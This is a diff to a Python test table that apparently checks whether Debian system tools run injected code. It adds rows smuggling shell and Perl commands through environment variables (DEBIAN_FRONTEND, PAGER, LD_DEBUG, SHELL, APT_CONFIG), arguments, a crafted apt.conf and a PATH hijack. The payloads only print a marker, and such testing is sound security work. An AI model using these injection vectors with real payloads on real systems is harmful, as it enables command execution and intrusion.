@@ -5,6 +5,10 @@ from row import HERE, PAYLOAD, Put, Row, Variant
 
 TMP = "/var/tmp/scripts"
 SH, PERL, PYTHON = b"echo PAYLOAD RUNS\n", b"print \"PAYLOAD RUNS\\n\";\n", b"print('PAYLOAD RUNS')\n"
+APT_CONFIG = b"""APT::Periodic::Enable "1";
+APT::Periodic::BackupArchiveInterval "always";
+Dir::Cache::Backup "/;echo PAYLOAD RUNS;";
+"""
 DIRECTORY = ["/usr/bin/mkdir", "-p", TMP]
 
 
@@ -111,6 +115,24 @@ ROWS = [
                 stdin=b"print \"PAYLOAD RUNS\\n\"; {}"),
         started("cpan !", ["/usr/bin/cpan"], "cpan", ("exec",), env={"HOME": TMP}, timeout=120,
                 stdin=b"yes\n! print \"PAYLOAD\".\" RUNS\\n\"\nquit\n"),
-        started("debconf by its frontend", ["/usr/bin/debconf-communicate"], "perl", stdin=b"",
-                env={"DEBIAN_FRONTEND": "noninteractive;BEGIN{print STDERR \"PAYLOAD\".\" RUNS\\n\"}#"})]),
+        started("debconf by its frontend", ["/usr/bin/debconf-communicate"], "debconf-communicate", ("exec",), stdin=b"",
+                env={"DEBIAN_FRONTEND": "noninteractive;BEGIN{print STDERR \"PAYLOAD\".\" RUNS\\n\"}#"}),
+        started("debconf --frontend", ["/usr/bin/debconf", "--frontend", "noninteractive;BEGIN{print STDERR \"PAYLOAD\"."
+                                       "\" RUNS\\n\"}#", "/bin/true"], "debconf", ("exec",), stdin=b""),
+        started("debconf by its interpreter", ["/usr/bin/perl", "/usr/bin/debconf", "--frontend", "noninteractive;BEGIN{"
+                                               "print STDERR \"PAYLOAD\".\" RUNS\\n\"}#", "/bin/true"], "perl", stdin=b""),
+        started("zmore by PAGER", ["/usr/bin/zmore", "/etc/hostname"], "zmore", ("exec",),
+                env={"PAGER": "echo PAYLOAD RUNS;:"}),
+        started("a file that may be read, sourced", ["/usr/lib/init/init-d-script", "/var/lib/teller/count"],
+                "init-d-script", ("exec",), prepare=[
+                    ["/usr/bin/mkdir", "-p", "/var/lib/teller"], Put("/var/lib/teller/count", SH, 0o644)]),
+        started("apt-key by PATH", ["/usr/bin/apt-key", "list"], "apt-key", ("exec",),
+                env={"PATH": TMP + ":/usr/bin", "shell": "echo PAYLOAD RUNS; exit"}, prepare=[
+                    ["/usr/bin/ln", "-sf", "/usr/bin/printenv", TMP + "/apt-config"]]),
+        started("ldd by LD_DEBUG", ["/usr/bin/ldd", "-u", "/usr/bin/true"], "bash",
+                env={"LD_DEBUG": "\";echo PAYLOAD RUNS;\""}),
+        started("savelog by SHELL", ["/usr/bin/savelog", "-x", ";echo PAYLOAD RUNS", "-t", TMP + "/log"], "dash",
+                env={"SHELL": "eval :"}, prepare=[put("log", b"x\n", 0o644)]),
+        started("apt's daily script by APT_CONFIG", ["/usr/lib/apt/apt.systemd.daily", "update"], "dash", timeout=120,
+                env={"APT_CONFIG": TMP + "/apt.conf"}, prepare=[put("apt.conf", APT_CONFIG, 0o644)])]),
 ]
